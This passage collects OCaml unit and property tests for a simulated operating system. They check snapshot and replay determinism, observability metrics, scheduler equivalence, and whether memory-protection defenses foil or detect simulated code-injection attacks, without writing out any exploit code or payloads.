  ignore (Kernel.Os.run k : Kernel.Os.stop_reason);
  let ooms =
    List.length
      (List.filter
         (function
           | Kernel.Event_log.Fault_detected { kind = "oom"; _ } -> true
           | _ -> false)
         (Kernel.Event_log.to_list (Kernel.Os.log k)))
  in
  if ooms = 0 then Alcotest.fail "workload did not trigger any oom kill";
  let report, _snap = Snap.Replay.check ~fuel_to_checkpoint:900 (build ()) in
  if not (Snap.Replay.ok report) then
    Alcotest.failf "replay through oom storm diverged: %a" Snap.Replay.pp report

let suite =
  [
    Alcotest.test_case "procs and children iterate pid-sorted" `Quick
      test_pid_sorted_iteration;
    Alcotest.test_case "alloc_pair failure preserves free-list order" `Quick
      test_alloc_pair_failure_ordering;
    Alcotest.test_case "shared image frames are sublinear in process count" `Quick
      test_shared_frames_sublinear;
    Alcotest.test_case "restore rebuilds the share registry (replay)" `Quick
      test_replay_rebuilds_shares;
    Alcotest.test_case "replay is bit-exact through an oom storm" `Quick
      test_replay_through_oom;
  ]
