(* The observability layer: JSON round-trips, the bounded trace ring, the
   metric registry, the kernel event log as a trace producer, and — most
   importantly — that the null sink is cycle-exact zero overhead. *)

(* --- Json ---------------------------------------------------------------- *)

let test_json_roundtrip () =
  let module J = Obs.Json in
  let doc =
    J.Obj
      [
        ("s", J.Str "a \"quoted\"\nline\twith\\specials");
        ("i", J.Int (-42));
        ("f", J.Float 1.5);
        ("b", J.Bool true);
        ("n", J.Null);
        ("l", J.List [ J.Int 1; J.Int 2; J.Obj [ ("x", J.Str "y") ] ]);
      ]
  in
  match J.of_string (J.to_string doc) with
  | Error e -> Alcotest.failf "parse error: %s" e
  | Ok parsed ->
    Alcotest.(check string) "round trip" (J.to_string doc) (J.to_string parsed)

let test_json_accessors () =
  let module J = Obs.Json in
  let doc = J.Obj [ ("a", J.Int 7); ("b", J.Str "hi") ] in
  Alcotest.(check (option int)) "member int" (Some 7) (Option.bind (J.member "a" doc) J.to_int);
  Alcotest.(check (option string)) "member str" (Some "hi") (Option.bind (J.member "b" doc) J.to_str);
  Alcotest.(check (option int)) "missing" None (Option.bind (J.member "zz" doc) J.to_int)

(* --- Trace ring ---------------------------------------------------------- *)

let ev ts name : Obs.Trace.event =
  { ts; cat = "test"; name; ph = Obs.Trace.Instant; args = [] }

let test_ring_bounded () =
  let r = Obs.Trace.create ~capacity:4 () in
  for i = 1 to 10 do
    Obs.Trace.add r (ev i (Fmt.str "e%d" i))
  done;
  Alcotest.(check int) "length capped" 4 (Obs.Trace.length r);
  Alcotest.(check int) "dropped counted" 6 (Obs.Trace.dropped r);
  (* oldest-first and only the newest survive *)
  Alcotest.(check (list string))
    "newest retained, oldest first"
    [ "e7"; "e8"; "e9"; "e10" ]
    (List.map (fun (e : Obs.Trace.event) -> e.name) (Obs.Trace.to_list r))

let test_ring_ordering () =
  let r = Obs.Trace.create ~capacity:8 () in
  List.iter (fun i -> Obs.Trace.add r (ev i (Fmt.str "e%d" i))) [ 1; 2; 3 ];
  Alcotest.(check (list int))
    "insertion order" [ 1; 2; 3 ]
    (List.map (fun (e : Obs.Trace.event) -> e.ts) (Obs.Trace.to_list r))

let test_jsonl_roundtrip () =
  let events =
    [
      { (ev 10 "walk") with cat = "hw"; args = [ ("vpn", Obs.Json.Int 5) ] };
      { (ev 20 "span") with ph = Obs.Trace.Complete 7 };
      { (ev 30 "open") with ph = Obs.Trace.Begin };
      { (ev 40 "close") with ph = Obs.Trace.End };
    ]
  in
  match Obs.Trace.of_jsonl (Obs.Trace.jsonl events) with
  | Error e -> Alcotest.failf "jsonl parse error: %s" e
  | Ok parsed ->
    Alcotest.(check int) "count" (List.length events) (List.length parsed);
    List.iter2
      (fun (a : Obs.Trace.event) (b : Obs.Trace.event) ->
        Alcotest.(check int) "ts" a.ts b.ts;
        Alcotest.(check string) "name" a.name b.name;
        Alcotest.(check string) "cat" a.cat b.cat;
        Alcotest.(check bool) "phase" true (a.ph = b.ph))
      events parsed

(* --- Metrics ------------------------------------------------------------- *)

let test_metrics_counters () =
  let reg = Obs.Metrics.create () in
  let c = Obs.Metrics.counter reg "x" in
  Obs.Metrics.incr c;
  Obs.Metrics.incr ~by:4 c;
  (* find-or-create: same name is the same counter *)
  Obs.Metrics.incr (Obs.Metrics.counter reg "x");
  Alcotest.(check (list (pair string int))) "counters" [ ("x", 6) ]
    (Obs.Metrics.counters reg);
  Alcotest.check_raises "kind mismatch"
    (Invalid_argument "Metrics: \"x\" is not a histogram")
    (fun () -> ignore (Obs.Metrics.histogram reg "x"))

let test_metrics_histogram () =
  let reg = Obs.Metrics.create () in
  let h = Obs.Metrics.histogram reg "lat" in
  List.iter (Obs.Metrics.observe h) [ 0; 1; 3; 4; 700 ];
  Alcotest.(check int) "n" 5 h.Obs.Metrics.n;
  Alcotest.(check int) "sum" 708 h.Obs.Metrics.sum;
  Alcotest.(check int) "min" 0 h.Obs.Metrics.vmin;
  Alcotest.(check int) "max" 700 h.Obs.Metrics.vmax;
  (* buckets: <=0 | [1,2) | [2,4) | [4,8) | ... [512,1024) — bounds are
     reported as (lo, hi-exclusive) *)
  Alcotest.(check (list (triple int int int)))
    "nonzero buckets"
    [ (0, 0, 1); (1, 2, 1); (2, 4, 1); (4, 8, 1); (512, 1024, 1) ]
    (Obs.Metrics.nonzero_buckets h)

let test_metrics_labeled () =
  let reg = Obs.Metrics.create () in
  let l = Obs.Metrics.labeled reg "by_pid" in
  Obs.Metrics.incr_label l "3";
  Obs.Metrics.incr_label ~by:5 l "1";
  Obs.Metrics.incr_label l "3";
  Alcotest.(check (list (pair string int)))
    "descending by count" [ ("1", 5); ("3", 2) ] (Obs.Metrics.label_cells l)

(* --- Obs facade ---------------------------------------------------------- *)

let test_null_is_noop () =
  let o = Obs.null in
  Alcotest.(check bool) "disabled" false (Obs.enabled o);
  Obs.event o ~cat:"x" "e";
  Obs.count o "c";
  Obs.span_begin o ~key:"k" ~cat:"x" "s";
  Alcotest.(check (option int)) "span_end none" None (Obs.span_end o ~key:"k" ~cat:"x" "s");
  Alcotest.(check int) "no events" 0 (List.length (Obs.events o));
  Alcotest.(check (list (pair string int))) "no counters" [] (Obs.Metrics.counters (Obs.metrics o))

let test_spans () =
  let o = Obs.create () in
  let clock = ref 100 in
  Obs.set_clock o (fun () -> !clock);
  Obs.span_begin o ~key:"ss:1" ~cat:"split" "window";
  clock := 250;
  Alcotest.(check (option int)) "duration" (Some 150)
    (Obs.span_end o ~key:"ss:1" ~cat:"split" "window");
  Alcotest.(check (option int)) "unmatched end" None
    (Obs.span_end o ~key:"ss:1" ~cat:"split" "window")

(* --- Event log as trace producer ----------------------------------------- *)

let test_event_log_queries () =
  let log = Kernel.Event_log.create () in
  Kernel.Event_log.add log (Kernel.Event_log.Injection_detected { pid = 3; eip = 0x9000; mode = "break" });
  Kernel.Event_log.add log (Kernel.Event_log.Exec_shell { pid = 7; path = "/bin/sh" });
  Kernel.Event_log.add log (Kernel.Event_log.Note "hello");
  Alcotest.(check int) "count" 1
    (Kernel.Event_log.count log (function Kernel.Event_log.Note _ -> true | _ -> false));
  Alcotest.(check bool) "find_first" true
    (Kernel.Event_log.find_first log (function
       | Kernel.Event_log.Exec_shell { pid; _ } -> pid = 7
       | _ -> false)
    <> None);
  Alcotest.(check bool) "shell_spawned" true (Kernel.Event_log.shell_spawned log);
  Alcotest.(check (list (triple int int string))) "detections"
    [ (3, 0x9000, "break") ]
    (Kernel.Event_log.detections log)

let test_event_log_mirrors_to_trace () =
  let log = Kernel.Event_log.create () in
  let o = Obs.create () in
  Kernel.Event_log.attach_obs log o;
  Kernel.Event_log.add log (Kernel.Event_log.Exec_shell { pid = 1; path = "/bin/sh" });
  Kernel.Event_log.add log (Kernel.Event_log.Note "x");
  let names = List.map (fun (e : Obs.Trace.event) -> e.name) (Obs.events o) in
  Alcotest.(check (list string)) "tags traced" [ "exec_shell"; "note" ] names;
  Alcotest.(check int) "log list unchanged" 2 (List.length (Kernel.Event_log.to_list log))

(* --- Instrumented kernel end-to-end -------------------------------------- *)

let test_attack_populates_metrics () =
  let obs = Obs.create () in
  let o = Attack.Realworld.run_apache ~defense:Defense.split_standalone ~obs () in
  Alcotest.(check bool) "foiled" true (Attack.Runner.is_foiled o);
  let reg = Obs.snapshot obs in
  let counters = Obs.Metrics.counters reg in
  let count name = try List.assoc name counters with Not_found -> 0 in
  Alcotest.(check bool) "retired insns counted" true (count "cpu.retired" > 0);
  Alcotest.(check bool) "faults counted" true (count "mmu.faults" > 0);
  Alcotest.(check bool) "detection counted" true (count "split.detections" >= 1);
  Alcotest.(check bool) "gauges imported" true
    (List.mem_assoc "cost.cycles" (Obs.Metrics.gauges reg));
  Alcotest.(check bool) "fault latency observed" true
    (List.exists
       (fun (h : Obs.Metrics.histogram) ->
         h.h_name = "os.fault_service_cycles" && h.n > 0)
       (Obs.Metrics.histograms reg));
  Alcotest.(check bool) "trace nonempty" true (Obs.events obs <> [])

let test_trace_jsonl_file_roundtrip () =
  let obs = Obs.create () in
  ignore (Attack.Realworld.run_apache ~defense:Defense.split_standalone ~obs ());
  let file = Filename.temp_file "obs" ".jsonl" in
  Obs.write_trace obs file;
  let ic = open_in_bin file in
  let len = in_channel_length ic in
  let contents = really_input_string ic len in
  close_in ic;
  Sys.remove file;
  match Obs.Trace.of_jsonl contents with
  | Error e -> Alcotest.failf "written trace does not parse: %s" e
  | Ok parsed ->
    Alcotest.(check int) "all events round trip"
      (List.length (Obs.events obs))
      (List.length parsed);
    (* timestamps come from the cycle clock; Complete spans are stamped with
       their start cycle, so the stream is not globally monotone — but every
       stamp must be a valid cycle count *)
    Alcotest.(check bool) "cycle-stamped" true
      (List.for_all (fun (e : Obs.Trace.event) -> e.ts >= 0) parsed
      && List.exists (fun (e : Obs.Trace.event) -> e.ts > 0) parsed)

(* The acceptance bar for the whole layer: enabling observability must not
   perturb the simulation. Cycle counts with a live sink and with the null
   sink are identical. *)
let test_null_sink_zero_overhead () =
  let run obs =
    Workload.Figures.run_ctxsw ~obs ~defense:Defense.split_standalone ~iters:40 ()
  in
  let off = run Obs.null in
  let on_ = run (Obs.create ()) in
  Alcotest.(check int) "cycles identical" off.cycles on_.cycles;
  Alcotest.(check int) "insns identical" off.insns on_.insns;
  Alcotest.(check int) "traps identical" off.traps on_.traps;
  Alcotest.(check int) "split faults identical" off.split_faults on_.split_faults

let suite =
  [
    Alcotest.test_case "json round trip" `Quick test_json_roundtrip;
    Alcotest.test_case "json accessors" `Quick test_json_accessors;
    Alcotest.test_case "ring bounded" `Quick test_ring_bounded;
    Alcotest.test_case "ring ordering" `Quick test_ring_ordering;
    Alcotest.test_case "jsonl round trip" `Quick test_jsonl_roundtrip;
    Alcotest.test_case "metrics counters" `Quick test_metrics_counters;
    Alcotest.test_case "metrics histogram" `Quick test_metrics_histogram;
    Alcotest.test_case "metrics labeled" `Quick test_metrics_labeled;
    Alcotest.test_case "null sink is a no-op" `Quick test_null_is_noop;
    Alcotest.test_case "spans pair across callbacks" `Quick test_spans;
    Alcotest.test_case "event log queries" `Quick test_event_log_queries;
    Alcotest.test_case "event log mirrors to trace" `Quick test_event_log_mirrors_to_trace;
    Alcotest.test_case "attack populates metrics" `Quick test_attack_populates_metrics;
    Alcotest.test_case "trace file round trips" `Quick test_trace_jsonl_file_roundtrip;
    Alcotest.test_case "null sink zero overhead" `Quick test_null_sink_zero_overhead;
  ]
