(* The §3.3.1 hardware variant: dual pagetable registers. Same guarantees,
   essentially free at runtime. *)

let test_attacks_foiled () =
  List.iter
    (fun t ->
      let o = Attack.Wilander.run ~defense:Defense.split_dual_cr3 t Attack.Wilander.Bss in
      Alcotest.(check bool)
        (Attack.Wilander.technique_name t ^ " foiled on dual-cr3")
        true (Attack.Runner.is_foiled o))
    Attack.Wilander.techniques;
  List.iter
    (fun id ->
      let o = Attack.Realworld.run ~defense:Defense.split_dual_cr3 id in
      Alcotest.(check bool)
        ((Attack.Realworld.info id).package ^ " foiled on dual-cr3")
        true (Attack.Runner.is_foiled o))
    Attack.Realworld.all

let test_benign_runs () =
  List.iter
    (fun t ->
      let outcome, _ = Attack.Wilander.benign_run ~defense:Defense.split_dual_cr3 t in
      Alcotest.(check bool)
        (Attack.Wilander.technique_name t ^ " benign ok")
        true
        (outcome = Attack.Runner.Completed 0))
    Attack.Wilander.techniques

let test_observe_mode () =
  let defense =
    Defense.split_with ~response:(Split_memory.Response.Observe { sebek = false })
      ~mechanism:Split_memory.Dual_cr3 ()
  in
  let o, _ = Attack.Realworld.run_wuftpd ~defense () in
  Alcotest.(check bool) "attack proceeds under observation" true
    (match o with Attack.Runner.Shell_spawned { detected_first = true } -> true | _ -> false)

let test_no_runtime_overhead_machinery () =
  let r = Workload.Figures.run_ctxsw ~defense:Defense.split_dual_cr3 ~iters:40 () in
  Alcotest.(check int) "no split faults" 0 r.split_faults;
  Alcotest.(check int) "no single steps" 0 r.single_steps

let test_near_free () =
  let base = Workload.Figures.run_ctxsw ~defense:Defense.unprotected ~iters:80 () in
  let prot = Workload.Figures.run_ctxsw ~defense:Defense.split_dual_cr3 ~iters:80 () in
  let ratio = Workload.Harness.normalized ~baseline:base prot in
  Alcotest.(check bool) (Fmt.str "ratio %.3f >= 0.98" ratio) true (ratio >= 0.98)

let test_fork_cow_still_works () =
  (* exercise COW interactions under the dual-walk views *)
  let k = Kernel.Os.create ~protection:(Defense.to_protection Defense.split_dual_cr3) () in
  let image =
    Kernel.Image.build ~name:"cowdual"
      ~data:(fun ~lbl:_ -> [ Isa.Asm.L "cell"; Isa.Asm.Word32 0 ])
      ~code:(fun ~lbl ->
        Isa.Asm.
          [
            L "main";
            I (Mov_ri (EBX, lbl "cell"));
            I (Mov_ri (EAX, 5));
            I (Store (EBX, 0, EAX));
            I (Mov_ri (EAX, 2));
            I (Int 0x80);
            I (Cmp_ri (EAX, 0));
            I (Jz (Lbl "child"));
            I (Mov_rr (EBX, EAX));
            I (Mov_ri (EAX, 7));
            I (Int 0x80);
            I (Mov_ri (EBX, lbl "cell"));
            I (Load (ECX, EBX, 0));
            I (Mov_rr (EBX, ECX));
            I (Mov_ri (EAX, 1));
            I (Int 0x80);
            L "child";
            I (Mov_ri (EBX, lbl "cell"));
            I (Mov_ri (EAX, 9));
            I (Store (EBX, 0, EAX));
            I (Mov_ri (EBX, 0));
            I (Mov_ri (EAX, 1));
            I (Int 0x80);
          ])
      ~entry:"main" ()
  in
  let parent = Kernel.Os.spawn k image in
  Alcotest.(check bool) "finished" true (Kernel.Os.run k = Kernel.Os.All_exited);
  match parent.state with
  | Kernel.Proc.Zombie (Kernel.Proc.Exited 5) -> ()
  | st -> Alcotest.failf "parent sees own value: %a" Kernel.Proc.pp_state st

let suite =
  [
    Alcotest.test_case "attacks foiled on dual-cr3" `Quick test_attacks_foiled;
    Alcotest.test_case "benign programs unaffected" `Quick test_benign_runs;
    Alcotest.test_case "observe mode works" `Quick test_observe_mode;
    Alcotest.test_case "no trap machinery used" `Quick test_no_runtime_overhead_machinery;
    Alcotest.test_case "essentially free" `Quick test_near_free;
    Alcotest.test_case "fork + COW under dual views" `Quick test_fork_cow_still_works;
  ]
