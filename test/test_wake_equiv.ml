(* Equivalence harness for the indexed wake path (qcheck): for random
   pipe/fork/wait workloads under five defenses, a machine scheduled with
   the indexed [Sched.wake] and one scheduled with the seed's
   scan-everything [Sched.wake_scan] must be observationally identical —
   same stop reason, same cycle/trap/syscall counters, same event log,
   byte for byte. The indexed path may only change *when* blocked
   processes are rechecked, never what the recheck concludes. *)

open QCheck
module H = Workload.Harness
module G = Workload.Guests

let defenses =
  [
    Defense.unprotected;
    Defense.nx;
    Defense.split_standalone;
    Defense.split_dual_cr3;
    Defense.cfi;
  ]

(* Random workloads biased toward scheduler traffic: blocking pipe I/O in
   both directions (ping/pong over bounded cross-wired consoles), fork +
   waitpid chains (zombie-transition wakeups), and single-process pipe
   churn. Quantum and stack-jitter seed vary too, so wake-ups land at
   different scheduler boundaries across cases. *)
type workload =
  | Ctxsw of { iters : int; capacity : int; quantum : int; seed : int }
  | Spawn of { iters : int; quantum : int; seed : int }
  | Pipe_churn of { iters : int; quantum : int; seed : int }
  | Fan of { pairs : int; iters : int; capacity : int; quantum : int; seed : int }

let gen_workload : workload Gen.t =
  let open Gen in
  let quantum = int_range 16 200 in
  let seed = int_range 0 1000 in
  oneof
    [
      map4
        (fun iters capacity quantum seed -> Ctxsw { iters; capacity; quantum; seed })
        (int_range 1 10) (int_range 1 64) quantum seed;
      map3 (fun iters quantum seed -> Spawn { iters; quantum; seed }) (int_range 1 6)
        quantum seed;
      map3
        (fun iters quantum seed -> Pipe_churn { iters; quantum; seed })
        (int_range 1 25) quantum seed;
      (let* pairs = int_range 2 3 in
       map4
         (fun iters capacity quantum seed ->
           Fan { pairs; iters; capacity; quantum; seed })
         (int_range 1 6) (int_range 1 16) quantum seed);
    ]

let print_workload = function
  | Ctxsw { iters; capacity; quantum; seed } ->
    Fmt.str "ctxsw iters=%d cap=%d q=%d seed=%d" iters capacity quantum seed
  | Spawn { iters; quantum; seed } -> Fmt.str "spawn iters=%d q=%d seed=%d" iters quantum seed
  | Pipe_churn { iters; quantum; seed } ->
    Fmt.str "pipe iters=%d q=%d seed=%d" iters quantum seed
  | Fan { pairs; iters; capacity; quantum; seed } ->
    Fmt.str "fan pairs=%d iters=%d cap=%d q=%d seed=%d" pairs iters capacity quantum seed

let spec_of ~defense = function
  | Ctxsw { iters; capacity; quantum; seed } ->
    H.spec ~quantum ~seed ~wiring:(H.Pipeline { capacity = Some capacity }) ~defense
      [ H.guest (G.ctxsw_ping ~iters ()); H.guest (G.ctxsw_pong ()) ]
  | Spawn { iters; quantum; seed } ->
    H.spec ~quantum ~seed ~defense [ H.guest (G.spawn_bench ~iters ()) ]
  | Pipe_churn { iters; quantum; seed } ->
    H.spec ~quantum ~seed ~defense [ H.guest (G.pipe_throughput ~iters ()) ]
  | Fan { pairs; iters; capacity; quantum; seed } ->
    H.spec ~quantum ~seed ~wiring:(H.Pipeline { capacity = Some capacity }) ~defense
      (List.concat_map
         (fun _ -> [ H.guest (G.ctxsw_ping ~iters ()); H.guest (G.ctxsw_pong ()) ])
         (List.init pairs Fun.id))

(* One run rendered to a single comparable string: stop reason, the full
   cost-counter line (cycles, insns, traps, split faults, single steps,
   syscalls, context switches) and the whole event log. *)
let observe ~wake_scan spec =
  let k = H.build spec in
  let stop = Kernel.Sched.run ~wake_scan (Kernel.Os.machine k) in
  Fmt.str "%s@.%a@.%a"
    (match stop with
    | Kernel.Sched.All_exited -> "all-exited"
    | Kernel.Sched.All_blocked -> "all-blocked"
    | Kernel.Sched.Fuel_exhausted -> "fuel-exhausted")
    Hw.Cost.pp (Kernel.Os.cost k) Kernel.Event_log.pp (Kernel.Os.log k)

let prop_wake_equivalent =
  Test.make ~name:"indexed wake == scan wake (events, counters, verdicts)"
    ~count:25
    (make ~print:print_workload gen_workload)
    (fun wl ->
      List.for_all
        (fun defense ->
          let spec = spec_of ~defense wl in
          String.equal (observe ~wake_scan:false spec) (observe ~wake_scan:true spec))
        defenses)

let suite = List.map QCheck_alcotest.to_alcotest [ prop_wake_equivalent ]
