(* The snapshot subsystem: codec round-trips, whole-machine
   checkpoint/restore with bit-exact replay across scenarios, run-to-run
   determinism, the auto-checkpoint ring, forensic capture, and the
   file format. *)

let run_to_end os = Kernel.Os.run ~fuel:2_000_000 os

let contains ~affix s =
  let n = String.length affix and m = String.length s in
  let rec go i = i + n <= m && (String.sub s i n = affix || go (i + 1)) in
  n = 0 || go 0

let final_state os =
  let c = Kernel.Os.cost os in
  ( (c.cycles, c.insns, c.traps, c.split_faults, c.single_steps, c.syscalls, c.ctx_switches),
    List.map
      (Fmt.str "%a" Kernel.Event_log.pp_event)
      (Kernel.Event_log.to_list (Kernel.Os.log os)) )

let scenario name =
  match Snap.Scenario.find name with
  | Some s -> s
  | None -> Alcotest.failf "unknown scenario %s" name

(* --- Codec --------------------------------------------------------------- *)

let test_codec_roundtrip () =
  let module W = Snap.Codec.W in
  let module R = Snap.Codec.R in
  let b = W.create () in
  W.raw b "HDR";
  List.iter (W.int b) [ 0; 1; -1; 42; -123456789; max_int / 2; -(max_int / 2) ];
  W.str b "hello\000world";
  W.str b "";
  W.bool b true;
  W.bool b false;
  W.opt W.int b None;
  W.opt W.int b (Some (-7));
  W.list W.str b [ "a"; "bb"; "" ];
  W.int_array b [| 3; -4; 5 |];
  let r = R.of_string (W.contents b) in
  R.expect r "HDR";
  List.iter
    (fun v -> Alcotest.(check int) "int" v (R.int r))
    [ 0; 1; -1; 42; -123456789; max_int / 2; -(max_int / 2) ];
  Alcotest.(check string) "str" "hello\000world" (R.str r);
  Alcotest.(check string) "empty str" "" (R.str r);
  Alcotest.(check bool) "true" true (R.bool r);
  Alcotest.(check bool) "false" false (R.bool r);
  Alcotest.(check (option int)) "none" None (R.opt R.int r);
  Alcotest.(check (option int)) "some" (Some (-7)) (R.opt R.int r);
  Alcotest.(check (list string)) "list" [ "a"; "bb"; "" ] (R.list R.str r);
  Alcotest.(check (array int)) "array" [| 3; -4; 5 |] (R.int_array r);
  Alcotest.(check bool) "at end" true (R.at_end r)

let test_codec_corrupt () =
  (match Snap.Snapshot.decode "not a snapshot" with
  | exception Snap.Codec.Corrupt _ -> ()
  | _ -> Alcotest.fail "garbage accepted");
  let s = scenario "benign" in
  let os = s.start () in
  let good = Snap.Snapshot.encode (Snap.Snapshot.checkpoint os) in
  let truncated = String.sub good 0 (String.length good / 2) in
  match Snap.Snapshot.decode truncated with
  | exception Snap.Codec.Corrupt _ -> ()
  | _ -> Alcotest.fail "truncated snapshot accepted"

(* --- Round-trip replay across scenarios ---------------------------------- *)

(* The ISSUE acceptance criterion: restore (checkpoint m) must produce an
   identical subsequent event log and cycle count, for a benign workload, a
   Break-mode attack and a Forensics-mode attack (plus Observe). *)
let test_roundtrip name () =
  let s = scenario name in
  let os = s.start () in
  let report, snap = Snap.Replay.check os in
  Alcotest.(check bool)
    (Fmt.str "replay identical (%a)" Snap.Replay.pp report)
    true (Snap.Replay.ok report);
  Alcotest.(check bool)
    "checkpoint taken mid-run" true
    (Snap.Snapshot.cycle snap > 0 && Snap.Snapshot.cycle snap < report.ref_cycles)

(* Restoring into a *fresh* machine (not the one that made the snapshot)
   must behave identically too — that is what `simctl restore` does. *)
let test_restore_into_fresh_machine () =
  let s = scenario "attack-break" in
  let os1 = s.start () in
  ignore (Kernel.Os.run ~fuel:1500 os1);
  let snap = Snap.Snapshot.checkpoint os1 in
  ignore (run_to_end os1);
  let ref_final = final_state os1 in
  let os2 = s.start () in
  Snap.Snapshot.restore os2 (Snap.Snapshot.decode (Snap.Snapshot.encode snap));
  ignore (run_to_end os2);
  Alcotest.(check (list string)) "event logs match" (snd ref_final) (snd (final_state os2));
  Alcotest.(check bool) "final state matches" true (final_state os2 = ref_final)

(* Canonical serialization: checkpointing a restored machine re-encodes to
   the exact same bytes — there is no hidden state the format misses. *)
let test_canonical_reencode () =
  let s = scenario "attack-forensics" in
  let os = s.start () in
  ignore (Kernel.Os.run ~fuel:1500 os);
  let e1 = Snap.Snapshot.encode (Snap.Snapshot.checkpoint os) in
  let os2 = s.start () in
  Snap.Snapshot.restore os2 (Snap.Snapshot.decode e1);
  let e2 = Snap.Snapshot.encode (Snap.Snapshot.checkpoint os2) in
  Alcotest.(check int) "same size" (String.length e1) (String.length e2);
  Alcotest.(check bool) "bit-identical re-encode" true (String.equal e1 e2)

(* --- Determinism regression (satellite) ---------------------------------- *)

(* Two from-scratch runs of the same scenario: identical cycles, event
   logs, and metrics snapshots. Guards replay correctness and any future
   perf PR against nondeterminism creeping into the simulator. *)
let test_run_to_run_determinism name () =
  let once () =
    let obs = Obs.create () in
    let s = scenario name in
    let os = s.start ~obs () in
    ignore (run_to_end os);
    let metrics =
      Obs.Json.to_string (Obs.Metrics.to_json (Obs.snapshot obs))
    in
    (final_state os, metrics)
  in
  let (f1, m1) = once () in
  let (f2, m2) = once () in
  Alcotest.(check (list string)) "event logs" (snd f1) (snd f2);
  Alcotest.(check bool) "cost counters" true (fst f1 = fst f2);
  Alcotest.(check string) "metrics snapshots" m1 m2

(* --- Sparse frames ------------------------------------------------------- *)

let test_sparse_skip () =
  let s = scenario "benign" in
  let os = s.start () in
  ignore (Kernel.Os.run ~fuel:1500 os);
  let snap = Snap.Snapshot.checkpoint os in
  let written = Snap.Snapshot.frames_written snap in
  let skipped = Snap.Snapshot.frames_sparse_skipped snap in
  Alcotest.(check int)
    "written + skipped = total" (Snap.Snapshot.frame_count snap) (written + skipped);
  Alcotest.(check bool) "some frames written" true (written > 0);
  Alcotest.(check bool)
    (Fmt.str "sparse dominates (%d written, %d skipped)" written skipped)
    true
    (skipped > written)

(* --- Incompatible restore ------------------------------------------------ *)

let test_incompatible_restore () =
  let s = scenario "benign" in
  let os = s.start () in
  let snap = Snap.Snapshot.checkpoint os in
  let small =
    Kernel.Os.create ~frames:64
      ~protection:(Defense.to_protection s.defense)
      ()
  in
  (match Snap.Snapshot.restore small snap with
  | exception Invalid_argument _ -> ()
  | () -> Alcotest.fail "frame-count mismatch accepted");
  let unprot =
    Kernel.Os.create ~protection:(Defense.to_protection Defense.unprotected) ()
  in
  match Snap.Snapshot.restore unprot snap with
  | exception Invalid_argument _ -> ()
  | () -> Alcotest.fail "protection mismatch accepted"

(* --- Auto-checkpoint ring ------------------------------------------------ *)

let test_ring () =
  let s = scenario "benign" in
  let os = s.start () in
  let ring = Snap.Ring.install ~every_cycles:1500 ~keep:3 os in
  ignore (run_to_end os);
  let final = final_state os in
  let snaps = Snap.Ring.snapshots ring in
  Alcotest.(check bool)
    (Fmt.str "several taken (%d)" (Snap.Ring.taken ring))
    true
    (Snap.Ring.taken ring >= 3);
  Alcotest.(check bool) "bounded" true (List.length snaps <= 3);
  Alcotest.(check int) "evicted = taken - kept"
    (Snap.Ring.taken ring - List.length snaps)
    (Snap.Ring.evicted ring);
  (* ascending capture cycles, oldest first *)
  let cycles = List.map Snap.Snapshot.cycle snaps in
  Alcotest.(check (list int)) "oldest first" (List.sort compare cycles) cycles;
  Snap.Ring.uninstall ring;
  (* warm-start from the newest retained snapshot reaches the identical end
     state *)
  match Snap.Ring.latest ring with
  | None -> Alcotest.fail "no snapshot retained"
  | Some snap ->
    let os2 = s.start () in
    Snap.Snapshot.restore os2 snap;
    ignore (run_to_end os2);
    Alcotest.(check bool) "warm start converges" true (final_state os2 = final)

(* --- Forensic capture ---------------------------------------------------- *)

(* The ISSUE acceptance criterion: the payload diff's extracted bytes equal
   the injected shellcode, captured at the detection instant. *)
let test_forensic_capture () =
  let s = scenario "attack-break" in
  let os = s.start () in
  let captures = Snap.Forensics.arm os in
  ignore (run_to_end os);
  match !captures with
  | [] -> Alcotest.fail "no capture despite detection"
  | c :: _ ->
    Alcotest.(check int) "trigger eip = landing address" Snap.Scenario.payload_landing
      c.c_trigger.t_eip;
    Alcotest.(check string) "extracted bytes = injected shellcode"
      Snap.Scenario.injected_payload c.c_payload;
    Alcotest.(check bool) "diff present" true (c.c_diff <> None);
    (* the snapshot froze the machine with the detection in its log *)
    let events = ref [] in
    let os2 = s.start () in
    Snap.Snapshot.restore os2 c.c_snapshot;
    List.iter
      (fun e -> events := Fmt.str "%a" Kernel.Event_log.pp_event e :: !events)
      (Kernel.Event_log.to_list (Kernel.Os.log os2));
    Alcotest.(check bool) "detection event in snapshot" true
      (List.exists (contains ~affix:"code injection detected") !events)

let test_forensic_artifacts () =
  let dir = Filename.concat (Filename.get_temp_dir_name ()) "snap-test-forensics" in
  let s = scenario "attack-forensics" in
  let os = s.start () in
  let captures = Snap.Forensics.arm ~dir os in
  ignore (run_to_end os);
  Alcotest.(check int) "one capture" 1 (List.length !captures);
  let file name = Filename.concat dir name in
  List.iter
    (fun name ->
      Alcotest.(check bool) (name ^ " written") true (Sys.file_exists (file name)))
    [
      "capture-0.snap";
      "capture-0.snap.manifest.json";
      "capture-0.payload.bin";
      "capture-0.diff.json";
    ];
  let payload =
    In_channel.with_open_bin (file "capture-0.payload.bin") In_channel.input_all
  in
  Alcotest.(check string) "payload file = injected shellcode"
    Snap.Scenario.injected_payload payload;
  (* the manifest records the trigger *)
  let manifest =
    In_channel.with_open_text (file "capture-0.snap.manifest.json") In_channel.input_all
  in
  match Obs.Json.of_string (String.trim manifest) with
  | Error e -> Alcotest.failf "manifest does not parse: %s" e
  | Ok j ->
    Alcotest.(check bool) "manifest has trigger" true
      (match Obs.Json.member "trigger" j with
      | Some (Obs.Json.Obj _) -> true
      | _ -> false)

(* --- Files, manifest, obs metrics ---------------------------------------- *)

let test_save_load () =
  let file = Filename.temp_file "snap-test" ".snap" in
  let s = scenario "attack-observe" in
  let os = s.start () in
  ignore (Kernel.Os.run ~fuel:1500 os);
  let snap = Snap.Snapshot.checkpoint ~meta:[ ("scenario", "attack-observe") ] os in
  let bytes = Snap.Snapshot.save ~file snap in
  Alcotest.(check bool) "nonempty" true (bytes > 0);
  let loaded = Snap.Snapshot.load file in
  Alcotest.(check string) "encode(load) = encode(saved)"
    (Snap.Snapshot.encode snap) (Snap.Snapshot.encode loaded);
  Alcotest.(check (option string)) "meta survives" (Some "attack-observe")
    (Snap.Snapshot.find_meta loaded "scenario");
  let manifest =
    In_channel.with_open_text (file ^ ".manifest.json") In_channel.input_all
  in
  (match Obs.Json.of_string (String.trim manifest) with
  | Error e -> Alcotest.failf "manifest does not parse: %s" e
  | Ok j ->
    Alcotest.(check (option int)) "manifest bytes field" (Some bytes)
      (Option.bind (Obs.Json.member "bytes" j) Obs.Json.to_int));
  Sys.remove file;
  Sys.remove (file ^ ".manifest.json")

let test_obs_metrics () =
  let obs = Obs.create () in
